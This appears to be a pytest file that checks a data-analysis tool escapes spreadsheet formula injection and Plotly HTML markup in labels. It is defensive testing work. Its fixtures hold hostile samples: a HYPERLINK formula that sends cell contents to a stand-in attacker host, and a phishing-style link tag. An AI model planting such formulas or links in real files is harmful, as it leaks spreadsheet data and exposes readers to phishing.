"""Labels from data never run as Excel formulas (SE5) or become Plotly links (SE6).

Finding ids are those of the reliability review (``shared/reviews/reliability.md``).
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from advantage.cli import main
from advantage.panel import Panel
from advantage.planning import profile
from advantage.report import Display, build_sections, write_excel
from advantage.report.maps import choropleth, resolve_map
from advantage.report.safe import excel_safe_frame, excel_text, plotly_text

FORMULAS = ["=1+2", '=HYPERLINK("https://evil.example/?"&A1,"click")', "+SUM(A1:A2)",
            "-2+3", "@cmd", "\t=1", "\r=1"]
LINK = '<a href="https://evil.example/phish">Click here</a>'
BOLD = "<b style='color:red'>Bold</b> & co"
ROLES = ["--region", "reg", "--activity", "act", "--value", "val", "--time", "year"]


def run(argv: list[str]) -> int:
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    return int(exit_info.value.code or 0)


def _table(regions: list[str], activities: list[str]) -> pd.DataFrame:
    rows = []
    for year, k in ((2019, 1), (2020, 2)):
        for i, region in enumerate(regions):
            for j, activity in enumerate(activities):
                rows.append((year, region, activity, float((i + 1) * (j + 2) * k + (i * j) % 3)))
    return pd.DataFrame(rows, columns=["year", "reg", "act", "val"])


@pytest.fixture
def formula_csv(tmp_path: Path) -> Path:
    path = tmp_path / "formulas.csv"
    frame = _table(["=1+2", '=HYPERLINK("https://evil.example/?"&A1,"click")', "R3", "R4"],
                   ["@A1", "-A2", "A3", "A4"])
    frame.to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC)
    return path


def _cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(path: Path, expected_text: list[str]) -> None:
    cells = _cells(path)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"{path.name}: live formulas in {formulas}"
    values = {c.value for c in cells}
    for text in expected_text:
        assert "'" + text in values, (text, path.name)


def test_excel_text_rule() -> None:
    for text in FORMULAS:
        assert excel_text(text) == "'" + text
    for text in ("Ningxia", " =1", "R-1", "", "'=1"):
        assert excel_text(text) == text
    assert excel_text(-3.5) == -3.5 and excel_text(None) is None


def test_se5_excel_safe_frame_escapes_text_and_headers_not_numbers() -> None:
    frame = pd.DataFrame({"=region": ["=1+2", "R2"], "value": [-1.0, 2.0],
                          "code": pd.Series(["-5", "7"], dtype="string")})
    out = excel_safe_frame(frame)
    assert list(out.columns) == ["'=region", "value", "code"]
    assert out["'=region"].tolist() == ["'=1+2", "R2"]
    assert out["value"].tolist() == [-1.0, 2.0]
    assert out["code"].tolist() == ["'-5", "7"]
    assert frame["=region"].tolist() == ["=1+2", "R2"]  # the caller's frame is not changed


def test_se5_formula_labels_are_text_in_excel_from_analysis_commands(
        formula_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "advantages.xlsx"
    assert run(["advantages", str(formula_csv), *ROLES, "--out", str(out)]) == 0
    _assert_no_formula(out, ["=1+2", "@A1", "-A2"])


def test_se5_formula_labels_are_text_in_excel_from_export(formula_csv: Path,
                                                          tmp_path: Path) -> None:
    ws = tmp_path / "ws.duckdb"
    assert run(["ingest", str(formula_csv), "--workspace", str(ws), "--name", "f",
                *ROLES]) == 0
    out = tmp_path / "export.xlsx"
    assert run(["export", "--workspace", str(ws), "--name", "f", "--out", str(out)]) == 0
    _assert_no_formula(out, ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@A1"])


def test_se5_formula_labels_are_text_in_excel_report(tmp_path: Path) -> None:
    panel = Panel.from_long(_table(["=1+2", "R2", "R3", "R4"], ["@A1", "A2", "A3", "A4"]),
                            region="reg", activity="act", value="val", time="year")
    results = profile(panel)
    path = write_excel(results, ["=1+2"], tmp_path / "report.xlsx")
    _assert_no_formula(path, ["=1+2", "@A1"])


# ------------------------------------------------------------------ SE6: Plotly pseudo-HTML

def _strings(node: Any) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for v in node.values() for s in _strings(v)]
    if isinstance(node, list | tuple):
        return [s for v in node for s in _strings(v)]
    if hasattr(node, "tolist"):
        return _strings(node.tolist())
    return []


def test_plotly_text_escapes_markup_only() -> None:
    assert plotly_text(LINK) == '&lt;a href="https://evil.example/phish"&gt;Click here&lt;/a&gt;'
    assert plotly_text("Ningxia") == "Ningxia" and plotly_text(101) == "101"


def test_se6_labels_reach_no_chart_as_markup() -> None:
    panel = Panel.from_long(_table([LINK, "R2", "R3", BOLD], ["A1", LINK, "A3", "%{x}"]),
                            region="reg", activity="act", value="val", time="year")
    results = profile(panel)
    sections = build_sections(results, [LINK, "R2"], Display("en"))
    texts = [s for section in sections for s in _strings(section.figure.to_plotly_json())]
    assert not [s for s in texts if "<a href" in s or "<b style" in s], "markup reached a figure"
    assert any(plotly_text(LINK) in s for s in texts)
    # a label holding %{x} is data, never part of a hover template
    templates = [s for section in sections for t in section.figure.data
                 for s in _strings(getattr(t, "hovertemplate", None))]
    assert not [s for s in templates if "R2" in s or "Click" in s]


def test_se6_map_hover_names_are_escaped() -> None:
    spec = resolve_map(["California", "Texas", "Ohio"])
    fig = choropleth({"California": 1.0, "Texas": 2.0}, spec, "en", measure="x",
                     names={"California": LINK})
    assert list(fig.data[0].text) == [plotly_text(LINK), "Texas"]
